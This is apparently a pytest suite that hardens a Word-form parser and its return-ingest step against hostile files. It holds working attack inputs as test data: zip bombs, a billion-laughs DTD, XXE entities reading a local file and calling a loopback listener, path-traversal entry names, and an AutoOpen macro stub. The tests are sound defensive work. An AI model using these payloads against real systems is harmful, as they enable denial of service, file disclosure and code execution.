"""Hostile and broken input: nothing crashes, nothing hangs, nothing leaks, nothing is lost.

Each attack is built here from a generated form (or from nothing), then given to the
parser and, where it matters, to ingest: zip bombs, entity expansion, external
entities, deep and huge XML, thousands of parts, path traversal, macros, encrypted and
legacy OLE files, things that are not Word files at all.  Then injection (template and
formula syntax in what auditors write), integrity at the ingest level, privacy (logs,
summaries, file modes) and the limits being configurable.
"""

from __future__ import annotations

import email
import email.policy
import io
import json
import logging
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import textwrap
import time
import zipfile
import zlib
from datetime import UTC, datetime
from pathlib import Path

import pytest
from lxml import etree
from openpyxl import load_workbook
from sqlalchemy import select

from auditdocs.allocation.workbook import read_allocation
from auditdocs.errors import RejectedFile, TemplateError
from auditdocs.forms.generate import generate
from auditdocs.forms.parse import parse_bytes, read_forms
from auditdocs.ooxml.convert import legacy_kind, to_docx
from auditdocs.ooxml.fill import fill_form
from auditdocs.ooxml.package import DEFAULT_LIMITS, Limits, Package, ole_kind, parse_xml, xml_parser
from auditdocs.ooxml.zipout import Part, zip_bytes
from auditdocs.returns import ingest as ingest_module
from auditdocs.returns.ingest import ACCEPTED, AMEND, REJECTED, Ingester, ingest
from auditdocs.returns.outcome import BatchResult, Outcome
from auditdocs.returns.sources import Incoming, Unreadable, expand
from auditdocs.returns.summary import write_summary
from auditdocs.sample import answers
from auditdocs.sample.answers import AUDIT_DATE, complete_values
from auditdocs.sample.month import init_workspace, sample_allocation_path
from auditdocs.store.schema import receipts
from auditdocs.workspace import Workspace
from tests.conftest import blank_form, month_workspace
from tests.xmledit import control, edit_document, q, rezip

MB = 1024 * 1024
RECEIVED = datetime(2026, 11, 24, 10, 0, tzinfo=UTC)
GOOD = complete_values(AUDIT_DATE)
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def only_message(result) -> str:
    assert result.status == "rejected", (result.status, result.issues[:3])
    assert result.fields == {} and len(result.issues) == 1
    return result.issues[0].message


def refused(parse, data: bytes, pattern: str, seconds: float = 2.0) -> str:
    """Parse ``data``: it must be rejected quickly with a message matching ``pattern``."""
    started = time.perf_counter()
    result = parse(data)
    elapsed = time.perf_counter() - started
    message = only_message(result)
    assert re.search(pattern, message), message
    assert "internal error" not in message
    assert elapsed < seconds, f"{elapsed:.1f} s"
    return message


def parts_of(data: bytes) -> dict[str, bytes]:
    z = zipfile.ZipFile(io.BytesIO(data))
    return {n: z.read(n) for n in z.namelist()}


def stored(parts: dict[str, bytes]) -> bytes:
    """A zip of ``parts`` without compression (so no ratio check applies)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for name, raw in parts.items():
            z.writestr(name, raw)
    return out.getvalue()


def document_xml(body: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<w:document xmlns:w="' + W_NS.encode() + b'"><w:body>' + body + b"</w:body></w:document>"
    )


@pytest.fixture(scope="module")
def ws(tmp_path_factory) -> Workspace:
    """A workspace of its own (ingest writes to its store), its month generated."""
    return month_workspace(tmp_path_factory.mktemp("hostile") / "qa")


def form(ws: Workspace, n: int, kind: str = "audit tool") -> bytes:
    return blank_form(ws, f"2026-11-{n:03d}", kind)


def careless(values: dict, evidence: str | None = None) -> dict:
    """A return that needs amending (auditdocs.answers.careless), with other evidence."""
    out = answers.careless(values)
    if evidence is not None:
        out["domain.assessment.evidence"] = evidence
    return out


# --- zip bombs ------------------------------------------------------------------------


def test_a_part_that_would_expand_a_thousandfold_is_refused_unread(audit_form, parse):
    bomb = rezip(audit_form, {"word/media/image9.png": b"\0" * (20 * MB)})
    assert len(bomb) < len(audit_form) + 100_000
    refused(parse, bomb, r"zip bomb")


def test_parts_that_together_expand_too_far_are_refused_unread(audit_form, parse):
    """280 parts of 1 MB of zeros each (under the per-part ratio rule): 280 MB in all."""
    one = Part.of("x", b"\0" * MB)
    parts = [Part(f"word/media/p{n}.bin", one.crc, one.size, one.deflated) for n in range(280)]
    bomb = zip_bytes([*(Part.of(n, raw) for n, raw in parts_of(audit_form).items()), *parts])
    assert len(bomb) < 2 * MB
    refused(parse, bomb, r"would expand to \d+ bytes \(a zip bomb\?\)")


def test_a_part_that_expands_beyond_its_declared_size_is_never_read_past_it(audit_form, parse):
    """The directory says 1,000 bytes; the data inflates to 10 MB: reading stops at the
    declared size and the checksum fails."""
    raw = b"<!-- " + b"x" * (10 * MB) + b" -->"
    lying = Part("word/document.xml", zlib.crc32(raw), 1000, zlib.compress(raw, 9)[2:-4])
    others = [Part.of(n, d) for n, d in parts_of(audit_form).items() if n != "word/document.xml"]
    refused(parse, zip_bytes([lying, *others]), r"corrupt file: part word/document\.xml is damaged")


def test_parts_read_straight_from_the_file_are_what_zipfile_reads(audit_form, parse):
    """verify() inflates plain entries itself (zipfile's per-part file objects cost a third
    of a parse): our own forms take that path, and it gives zipfile's bytes."""
    pkg = Package(audit_form)
    assert all(pkg._direct(info) is not None for info in pkg.infos.values())
    pkg.verify()
    assert {n: pkg.read(n) for n in pkg.infos} == {n.lower(): d for n, d in parts_of(audit_form).items()}
    # Anything unusual goes through zipfile: another compression method reads the same...
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts_of(audit_form).items():
            z.writestr(name, data, zipfile.ZIP_BZIP2 if name == "word/styles.xml" else zipfile.ZIP_DEFLATED)
    bzipped = Package(out.getvalue())
    assert bzipped._direct(bzipped.infos["word/styles.xml"]) is None
    assert parse(out.getvalue()).status == "ok"
    # ...and a local header that disagrees with the directory is refused, as zipfile says.
    data = bytearray(audit_form)
    at = zipfile.ZipFile(io.BytesIO(audit_form)).getinfo("word/document.xml").header_offset + 30
    assert data[at : at + 17] == b"word/document.xml"
    data[at : at + 17] = b"word/documenX.xml"
    refused(parse, bytes(data), r"corrupt file: .*word/document\.xml")


def test_a_zip_bomb_inside_a_returned_zip_is_refused_by_ingest(ws, tmp_path):
    inner = rezip(form(ws, 1), {"word/media/bomb.bin": b"\0" * (20 * MB)})
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("returns/bomb.docx", inner)
    path = tmp_path / "returns.zip"
    path.write_bytes(outer.getvalue())
    [outcome] = ingest(ws, [path], received_at=RECEIVED).outcomes
    assert outcome.status == REJECTED and "zip bomb" in outcome.reason
    assert outcome.name.endswith("returns.zip!returns/bomb.docx")


# --- entities and DTDs --------------------------------------------------------------------

LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(2, 10)).replace("&lol1;", "&lol;")
    + "]>"
)


def with_dtd(xml: bytes, dtd: str) -> bytes:
    """``xml`` with ``dtd`` inserted after its XML declaration."""
    decl_end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    return xml[:decl_end] + dtd.encode() + xml[decl_end:]


@pytest.mark.parametrize(
    "part",
    [
        "word/document.xml",
        "docProps/custom.xml",
        "[Content_Types].xml",
        "_rels/.rels",
        "word/_rels/document.xml.rels",
        "customXml/item1.xml",  # our field manifest
        "word/styles.xml",  # a part the parser never needs: refused all the same
    ],
)
def test_entity_expansion_is_refused_in_any_part(audit_form, parse, part):
    data = parts_of(audit_form)
    assert part in data
    refused(parse, rezip(audit_form, {part: with_dtd(data[part], LAUGHS)}), rf"part {re.escape(part)} declares a DTD")


def test_a_dtd_is_refused_in_utf16_and_after_a_long_comment(audit_form, parse):
    body = parts_of(audit_form)["word/document.xml"]
    text = body.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    decl_end = text.index("?>") + 2
    utf16 = (text[:decl_end] + LAUGHS + text[decl_end:]).encode("utf-16")
    refused(parse, rezip(audit_form, {"word/document.xml": utf16}), r"declares a DTD")
    late = with_dtd(body, "<!--" + " " * 6000 + "-->" + LAUGHS)
    refused(parse, rezip(audit_form, {"word/document.xml": late}), r"declares a DTD")
    # the same checks on parse_xml itself, which every part goes through
    with pytest.raises(RejectedFile, match="declares a DTD"):
        parse_xml(late, "x.xml")


def test_a_part_in_an_encoding_office_never_writes_is_refused_before_lxml(audit_form, parse):
    """In UTF-7 a part has no literal ``<`` or ``=`` for the node count and the DTD check to
    see (issue 13): only UTF-8 and UTF-16, which Office writes, reach lxml."""
    body = parts_of(audit_form)["word/document.xml"].decode("utf-8")
    decl_end = body.index("?>") + 2
    # "<" and "=" in UTF-7's base64; a literal "+" (the form's "Alt+Down") is "+-" in UTF-7
    hidden = body[decl_end:].replace("+", "+-").replace("<", "+ADw-").replace("=", "+AD0-")
    declaration = b'<?xml version="1.0" encoding="UTF-7"?>'
    utf7 = declaration + hidden.encode("ascii", errors="xmlcharrefreplace")
    assert utf7[len(declaration) :].decode("utf-7") == body[decl_end:].encode("ascii", "xmlcharrefreplace").decode()
    assert utf7.count(b"<") < 5
    refused(parse, rezip(audit_form, {"word/document.xml": utf7}), r"written in UTF-7, not UTF-8 or UTF-16")
    ebcdic = body.encode("cp500", errors="xmlcharrefreplace")  # EBCDIC: no "<" an ASCII check can see
    refused(parse, rezip(audit_form, {"word/document.xml": ebcdic}), r"written in an unknown encoding")
    with pytest.raises(RejectedFile, match="written in UTF-7"):
        parse_xml(utf7, "x.xml")
    # what Office writes still reads: UTF-16 with its declaration, UTF-8 with a BOM
    utf16 = body.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert parse_xml(utf16, "x.xml").tag.endswith("document")
    assert parse_xml(b"\xef\xbb\xbf" + body.encode(), "x.xml").tag.endswith("document")


@pytest.mark.parametrize("second", ["word/document.xml", "Word/Document.XML"])
def test_a_zip_with_two_entries_of_one_name_is_refused(audit_form, parse, second):
    """Two entries named alike (or differing only in case) are read one way by us and
    another by Word or LibreOffice: refused, whichever comes first."""
    parts = parts_of(audit_form)
    decoy = parts["word/document.xml"].replace(b"</w:body>", b"<w:p/></w:body>")
    twice = zip_bytes([*(Part.of(n, raw) for n, raw in parts.items()), Part.of(second, decoy)])
    refused(parse, twice, r"two parts named .*differing only in case")


@pytest.fixture
def listener():
    """A TCP port on loopback that records whether anything connected to it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.setblocking(False)
    yield server
    server.close()


def connected(server: socket.socket) -> bool:
    try:
        conn, _ = server.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


@pytest.mark.parametrize("part", ["word/document.xml", "docProps/custom.xml"])
def test_external_entities_never_reach_a_file_or_the_network(audit_form, parse, tmp_path, listener, part):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER")
    port = listener.getsockname()[1]
    dtd = (
        f'<!DOCTYPE x [<!ENTITY file SYSTEM "file://{secret}">'
        f'<!ENTITY web SYSTEM "http://127.0.0.1:{port}/x"><!ENTITY % remote SYSTEM "http://127.0.0.1:{port}/d">'
        "%remote;]>"
    )
    xml = parts_of(audit_form)[part]
    xml = with_dtd(xml, dtd).replace(b"</w:body>", b"<w:p><w:r><w:t>&file;&web;</w:t></w:r></w:p></w:body>")
    result = parse(rezip(audit_form, {part: xml}))
    assert "declares a DTD" in only_message(result)
    assert "TOP-SECRET" not in json.dumps(result.to_json())
    assert not connected(listener)


def test_the_xml_parser_itself_resolves_nothing(tmp_path, listener):
    """Defence in depth: even a DTD that got past the checks expands nothing, loads
    nothing and connects nowhere."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER")
    port = listener.getsockname()[1]
    xml = (
        f'<!DOCTYPE r [<!ENTITY file SYSTEM "file://{secret}"><!ENTITY web SYSTEM "http://127.0.0.1:{port}/">]>'
        "<r>&file;&web;</r>"
    ).encode()
    root = etree.fromstring(xml, xml_parser())
    assert "TOP-SECRET" not in etree.tostring(root, encoding="unicode")
    assert not connected(listener)
    with pytest.raises(etree.XMLSyntaxError):  # libxml2 stops a billion laughs by itself too
        etree.fromstring(("<?xml version='1.0'?>" + LAUGHS + "<r>&lol9;</r>").encode(), xml_parser())


# --- huge and deep XML --------------------------------------------------------------------


def test_deeply_nested_xml_is_refused(audit_form, parse):
    deep = document_xml(b"<w:p>" * 50_000 + b"</w:p>" * 50_000)
    refused(parse, rezip(audit_form, {"word/document.xml": deep}), r"corrupt file: .*nests elements deeper")


@pytest.mark.parametrize(
    "body",
    [
        b"<w:p/>" * 400_000,  # empty paragraphs: 80 KB of them cost python-docx 629 MB
        b"<w:p " + b" ".join(f'w:a{i}=""'.encode() for i in range(400_000)) + b"/>",  # attributes
    ],
    ids=["elements", "attributes"],
)
def test_a_part_with_more_nodes_than_a_form_has_is_refused_before_lxml_builds_it(audit_form, parse, body):
    huge = parts_of(audit_form) | {"word/document.xml": document_xml(body)}
    refused(parse, stored(huge), r"over 300,000 XML tags and attributes")


def test_a_part_larger_than_the_limit_is_refused_unread(audit_form, parse):
    big = parts_of(audit_form) | {"word/media/huge.bin": b"\x01" * (DEFAULT_LIMITS.max_part_bytes + 1)}
    refused(parse, stored(big), r"would expand to \d+ bytes")


# --- thousands of parts, lying directories, path traversal -----------------------------------


def test_thousands_of_parts_are_refused_before_the_zip_is_read(audit_form, parse, monkeypatch):
    many = parts_of(audit_form) | {f"word/media/i{n}.png": b"" for n in range(5000)}
    data = stored(many)
    # the entry count is read from the zip's end record: zipfile is never asked
    monkeypatch.setattr("auditdocs.ooxml.package.zipfile.ZipFile", lambda *a, **k: pytest.fail("zip opened"))
    refused(parse, data, r"5,0\d\d parts .*limit 1,000 parts")


def lie_about_entries(data: bytes, entries: int) -> bytes:
    """Rewrite the end record's entry counts (zipfile trusts the directory size instead)."""
    end = data.rindex(b"PK\x05\x06")
    patched = bytearray(data)
    struct.pack_into("<HH", patched, end + 8, entries, entries)
    return bytes(patched)


def test_a_directory_larger_than_its_entry_count_says_is_refused(audit_form, parse):
    many = parts_of(audit_form) | {f"word/media/image-with-a-long-name-{n:06d}.png": b"" for n in range(30_000)}
    data = lie_about_entries(stored(many), 3)
    refused(parse, data, r"directory \(limit 1,000 parts\)")


def test_a_zip_of_returns_with_a_lying_directory_is_refused_by_ingest(tmp_path):
    many = {f"returns/form-with-a-long-name-{n:06d}.docx": b"" for n in range(40_000)}
    path = tmp_path / "returns.zip"
    path.write_bytes(lie_about_entries(stored(many), 2))
    started = time.perf_counter()
    [item] = list(expand([path]))
    assert isinstance(item, Unreadable) and "zip bomb" in item.reason
    assert time.perf_counter() - started < 2


@pytest.mark.parametrize(
    "name", ["../../evil.xml", "/etc/evil.xml", "word\\..\\..\\evil.xml", "C:/evil.xml", "word/../../evil.xml"]
)
def test_path_traversal_names_inside_a_package_are_refused(audit_form, parse, name):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for part, raw in parts_of(audit_form).items():
            z.writestr(part, raw)
        z.writestr(zipfile.ZipInfo(name), b"<x/>")
    refused(parse, out.getvalue(), r"part named .*which no Word file has")


def test_path_traversal_names_in_a_returned_zip_write_nothing_outside(ws, tmp_path):
    filled = fill_form(form(ws, 9), GOOD)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as z:
        z.writestr(zipfile.ZipInfo("../../../escaped.docx"), filled)
        z.writestr(zipfile.ZipInfo("/tmp/absolute.docx"), b"not a form")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "returns.zip").write_bytes(outer.getvalue())
    outcomes = ingest(ws, [inbox / "returns.zip"], received_at=RECEIVED).outcomes
    assert [o.status for o in outcomes] == [ACCEPTED, REJECTED]
    assert all(".." not in o.name and "!/" not in o.name for o in outcomes)
    assert not list(tmp_path.rglob("escaped.docx")) and not Path("/tmp/absolute.docx").exists()


# --- macros ---------------------------------------------------------------------------------

VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
VBA_DATA_REL = "http://schemas.microsoft.com/office/2006/relationships/wordVbaData"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def with_macros(docx: bytes) -> bytes:
    """What Word writes for a .docm: a VBA project, its data, their relationships and the
    macro-enabled content type."""
    parts = parts_of(docx)
    types = parts["[Content_Types].xml"].decode()
    types = types.replace(PLAIN_MAIN, MACRO_MAIN).replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/></Types>',
    )
    rels = (
        parts["word/_rels/document.xml.rels"]
        .decode()
        .replace(
            "</Relationships>", f'<Relationship Id="rIdVba" Type="{VBA_REL}" Target="vbaProject.bin"/></Relationships>'
        )
    )
    vba_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats'
        f'.org/package/2006/relationships"><Relationship Id="rId1" Type="{VBA_DATA_REL}" Target="vbaData.xml"/>'
        "</Relationships>"
    )
    vba_data = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><wne:vbaSuppData xmlns:wne="http://schemas'
        '.microsoft.com/office/word/2006/wordml"><wne:mcds/></wne:vbaSuppData>'
    )
    return rezip(
        docx,
        {
            "[Content_Types].xml": types.encode(),
            "word/_rels/document.xml.rels": rels.encode(),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen() Shell 'calc' End Sub",
            "word/_rels/vbaProject.bin.rels": vba_rels.encode(),
            "word/vbaData.xml": vba_data.encode(),
        },
    )


def assert_no_macros(docx: bytes) -> None:
    parts = parts_of(docx)
    assert not [n for n in parts if re.search(r"vba|\.bin$", n, re.I)]
    everything = b"".join(parts[n] for n in parts if n.endswith((".xml", ".rels")))
    for marker in (b"vbaProject", b"wordVbaData", b"macroEnabled", b"vbaData"):
        assert marker not in everything
    types = etree.fromstring(parts["[Content_Types].xml"])
    main = next(o for o in types if o.get("PartName") == "/word/document.xml")
    assert main.get("ContentType") == PLAIN_MAIN


def test_a_macro_enabled_form_of_ours_is_read_and_nothing_in_it_runs(audit_form, parse):
    result = parse(with_macros(fill_form(audit_form, {"overall.summary": "Read from a .docm."})))
    assert result.status == "ok" and result.fields["overall.summary"] == "Read from a .docm."


def test_feedback_on_a_docm_keeps_no_macros(ws, tmp_path):
    path = tmp_path / "returned.docm"
    path.write_bytes(with_macros(fill_form(form(ws, 2), careless(GOOD))))
    [outcome] = ingest(ws, [path], received_at=RECEIVED).outcomes
    assert outcome.status == AMEND
    docx, eml = outcome.feedback
    assert docx.suffix == ".docx"
    assert_no_macros(docx.read_bytes())
    reread = read_forms(ws, [docx])[0]  # still the auditor's document, with their answers
    assert reread.status == "ok" and reread.fields["overall.summary"] == GOOD["overall.summary"]
    message = email.message_from_bytes(eml.read_bytes(), policy=email.policy.default)
    [attached] = list(message.iter_attachments())
    assert attached.get_content() == docx.read_bytes()  # the e-mail carries the same clean copy


def test_generation_never_emits_macros(ws, tmp_path):
    for path in ws.output_dir.glob("2026-11/*/*.docx"):
        names = zipfile.ZipFile(path).namelist()
        assert not [n for n in names if "vba" in n.lower()]
        assert b"macroEnabled" not in zipfile.ZipFile(path).read("[Content_Types].xml")
    # a template saved with macros is refused before anything is written
    other = init_workspace(tmp_path / "macro-template")
    template = other.templates_dir / "audit_tool.docx"
    template.write_bytes(with_macros(template.read_bytes()))
    with pytest.raises(TemplateError, match="the template has macros"):
        generate(other, read_allocation(sample_allocation_path(other)))
    assert not list(other.output_dir.rglob("*.docx"))


# --- OLE files: encrypted, legacy, other, damaged -------------------------------------------

ENDOFCHAIN, FREESECT, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal Compound File (version 3, 512-byte sectors) holding ``streams``, each
    padded to 4 KB so that no mini stream is needed."""
    body, chains, entries, sector = bytearray(), [], [], 0
    for name, data in streams.items():
        data = data.ljust(4096, b"\0")
        count = -(-len(data) // 512)
        entries.append((name, sector, len(data)))
        chains.append((sector, count))
        body += data.ljust(count * 512, b"\0")
        sector += count
    dir_sector, fat_sector = sector, sector + 1
    assert fat_sector < 128
    fat = [FREESECT] * 128
    for start, count in chains:
        for i in range(count):
            fat[start + i] = start + i + 1 if i < count - 1 else ENDOFCHAIN
    fat[dir_sector], fat[fat_sector] = ENDOFCHAIN, FATSECT
    directory = bytearray()
    for index, (name, start, size) in enumerate([("Root Entry", ENDOFCHAIN, 0), *entries]):
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\0\0"
        entry[: len(encoded)] = encoded
        is_root = index == 0
        last = index == len(entries)
        struct.pack_into(
            "<HBBIII", entry, 64, len(encoded), 5 if is_root else 2, 1,
            NOSTREAM, NOSTREAM if is_root or last else index + 1, 1 if is_root and entries else NOSTREAM,
        )  # fmt: skip
        struct.pack_into("<II", entry, 116, start, size)
        directory += entry
    assert len(directory) <= 512
    body += directory.ljust(512, b"\0") + struct.pack("<128I", *fat)
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, dir_sector, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
    struct.pack_into("<I", header, 76, fat_sector)
    for i in range(1, 109):
        struct.pack_into("<I", header, 76 + 4 * i, FREESECT)
    return bytes(header) + bytes(body)


def fib(encrypted: bool) -> bytes:
    """The start of a Word 97-2003 WordDocument stream: wIdent, nFib, ..., flags."""
    return struct.pack("<HHHHHH", 0xA5EC, 193, 0, 0x0809, 0, 0x1200 | (0x0100 if encrypted else 0))


ENCRYPTED_DOCX = cfb({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x12" * 5000})
ENCRYPTED_DOC = cfb({"WordDocument": fib(encrypted=True), "1Table": b"\0"})
PLAIN_DOC = cfb({"WordDocument": fib(encrypted=False), "1Table": b"\0"})
WORKBOOK = cfb({"Workbook": b"\x09\x08"})


@pytest.mark.parametrize(
    ("data", "kind", "pattern"),
    [
        (ENCRYPTED_DOCX, "encrypted", r"password-protected or encrypted"),
        (ENCRYPTED_DOC, "encrypted-doc", r"password-protected \(encrypted\) Word \.doc"),
        (PLAIN_DOC, "doc", r"legacy Word \.doc"),
        (WORKBOOK, "other", r"not a Word document"),
        (ENCRYPTED_DOCX[:1500], "corrupt", r"corrupt file"),
    ],
    ids=["encrypted-docx", "encrypted-doc", "doc", "xls", "damaged"],
)
def test_ole_files_are_told_apart(parse, data, kind, pattern):
    assert ole_kind(data) == kind
    refused(parse, data, pattern)


def test_encrypted_files_never_reach_libreoffice():
    for data in (ENCRYPTED_DOCX, ENCRYPTED_DOC):
        with pytest.raises(RejectedFile, match="password"):
            legacy_kind(data)
    assert legacy_kind(PLAIN_DOC) == "doc"
    assert legacy_kind(WORKBOOK) is None


def odt(content: bytes, manifest: bytes = b"") -> bytes:
    """A minimal OpenDocument text package (its mimetype first, stored, as the spec says)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.text")
        z.writestr("content.xml", content)
        if manifest:
            z.writestr("META-INF/manifest.xml", manifest)
    return out.getvalue()


def test_an_opendocument_file_with_an_external_entity_never_reaches_libreoffice(tmp_path, listener):
    """LibreOffice is a parser too: an .odt is checked with our limits and refusals first."""
    port = listener.getsockname()[1]
    content = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:{port}/">]>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">&e;'
        "</office:document-content>"
    ).encode()
    with pytest.raises(RejectedFile, match="declares a DTD"):
        legacy_kind(odt(content))
    encrypted = odt(
        b"<x/>",
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
        b"</manifest:manifest>",
    )
    with pytest.raises(RejectedFile, match="password-protected OpenDocument"):
        legacy_kind(encrypted)
    assert legacy_kind(odt(b"<x/>")) == "odt"
    assert not connected(listener)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_a_conversion_that_hangs_is_killed_with_everything_it_started(tmp_path, monkeypatch):
    """soffice is a launcher: a timeout must kill the converter it starts too."""
    fake = tmp_path / "bin" / "soffice"
    fake.parent.mkdir()
    pid_file = tmp_path / "child.pid"
    fake.write_text(f"#!/bin/sh\nsleep 300 &\necho $! > {pid_file}\nwait\n")
    fake.chmod(0o700)
    monkeypatch.setenv("PATH", f"{fake.parent}{os.pathsep}{os.environ['PATH']}")
    started = time.perf_counter()
    with pytest.raises(RejectedFile, match="took longer than 1 s"):
        to_docx(PLAIN_DOC, "doc", timeout=1)
    assert time.perf_counter() - started < 10
    child = int(pid_file.read_text())
    for _ in range(100):  # gone, or a zombie waiting for init to reap it
        state = Path(f"/proc/{child}/stat")
        if not state.exists() or state.read_text().split(") ")[1].startswith("Z"):
            break
        time.sleep(0.05)
    else:
        os.kill(child, signal.SIGKILL)
        pytest.fail("the converter's child was left running")


def test_a_bug_in_a_conversion_rejects_that_file_alone(key, monkeypatch):
    """The last-resort handler around conversion (a bug simulated: none is known)."""
    from auditdocs.forms import parse as parse_module

    def broken(*args, **kwargs):
        raise ValueError("a bug")

    monkeypatch.setattr(parse_module, "to_docx", broken)
    result = parse_module.read_return(PLAIN_DOC, "old.doc", key)
    assert result.status == "rejected"
    assert result.issues[0].message == "the file could not be converted (internal error: ValueError)"


def ole_with_a_huge_sector_table(fat_sectors: int) -> bytes:
    """A small OLE file claiming thousands of sector-table sectors (olefile joins them
    one by one: minutes for a few MB)."""
    data = bytearray(cfb({"WordDocument": fib(False)}))
    struct.pack_into("<I", data, 0x2C, fat_sectors)
    struct.pack_into("<II", data, 0x44, 1, fat_sectors // 127)
    return bytes(data) + b"\xff" * (fat_sectors * 16)


def test_an_ole_file_claiming_a_huge_sector_table_is_refused_at_once(parse, tmp_path):
    bomb = ole_with_a_huge_sector_table(200_000)
    assert ole_kind(bomb) == "doc"  # by its stream names only; never opened
    started = time.perf_counter()
    assert "legacy Word .doc" in only_message(parse(bomb))
    path = tmp_path / "returned.msg"
    path.write_bytes(bomb)
    [item] = list(expand([path]))
    assert isinstance(item, Unreadable) and "sector table" in item.reason
    assert time.perf_counter() - started < 2


# --- not Word files at all ----------------------------------------------------------------

NOT_WORD = {
    "empty.docx": (b"", r"empty \(0 bytes\)"),
    "scan.docx": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", r"a PDF"),
    "photo.docx": (b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\0" * 100, r"JPEG picture"),
    "screenshot.docx": (b"\x89PNG\r\n\x1a\n" + b"\0" * 100, r"PNG picture"),
    "anim.docx": (b"GIF89a" + b"\0" * 50, r"GIF picture"),
    "saved-as.docx": (b"{\\rtf1\\ansi\\deff0 {\\fonttbl}", r"Rich Text"),
    "web.docx": (b"<html><body>form</body></html>", r"web page"),
    "noise.docx": (bytes(range(256)) * 8, r"unknown file type"),
    "word2.docx": (b"\xdb\xa5\x2d\x00" + b"\0" * 300, r"Word 2\.0 \(\.doc\)"),
    "zip-only.docx": (b"PK\x05\x06" + b"\0" * 18, r"corrupt file"),
}


@pytest.mark.parametrize("name", sorted(NOT_WORD))
def test_files_that_are_not_word_files_are_named_for_what_they_are(parse, name, monkeypatch):
    data, pattern = NOT_WORD[name]
    if not data.startswith(b"PK"):  # cheap checks come first: no zip is ever opened for these
        monkeypatch.setattr("auditdocs.ooxml.package.zipfile.ZipFile", lambda *a, **k: pytest.fail("zip opened"))
    refused(parse, data, pattern)


def test_ingest_rejects_each_with_its_reason_and_archives_it(ws, tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for name, (data, _pattern) in NOT_WORD.items():
        (inbox / name).write_bytes(data)
    result = ingest(ws, [inbox], received_at=RECEIVED)
    by_name = {Path(o.name).name: o for o in result.outcomes}
    assert set(by_name) == set(NOT_WORD)
    for name, (_data, pattern) in NOT_WORD.items():
        outcome = by_name[name]
        assert outcome.status == REJECTED and re.search(pattern, outcome.reason), (name, outcome.reason)
        assert (ws.state_dir / "archive" / outcome.sha256[:2] / outcome.sha256).exists()


def test_a_file_too_big_to_be_a_form_is_never_read_whole(ws, tmp_path):
    """A 300 MB input (sparse: no disk used) is refused by its size; nothing reads it into
    memory, not even to archive it."""
    big = tmp_path / "huge.docx"
    with big.open("wb") as fh:
        fh.truncate(300 * MB)
    started = time.perf_counter()
    [outcome] = ingest(ws, (p for p in [big]), received_at=RECEIVED).outcomes  # a generator will do
    assert outcome.status == REJECTED and "over the 50 MB limit" in outcome.reason
    assert time.perf_counter() - started < 5
    assert not [p for p in (ws.state_dir / "archive").rglob("*") if p.is_file() and p.stat().st_size > 50 * MB]


# --- limits are configurable, cheap checks come first -----------------------------------------


def test_limits_are_a_parameter_of_parse_and_ingest(ws, audit_form, key, tmp_path):
    assert parse_bytes(audit_form, "x.docx", key).status == "ok"
    tight = parse_bytes(audit_form, "x.docx", key, Limits(max_entries=5))
    assert "limit 5 parts" in only_message(tight)
    tiny = parse_bytes(audit_form, "x.docx", key, Limits(max_xml_nodes=1000))
    assert "over 1,000 XML tags and attributes" in only_message(tiny)
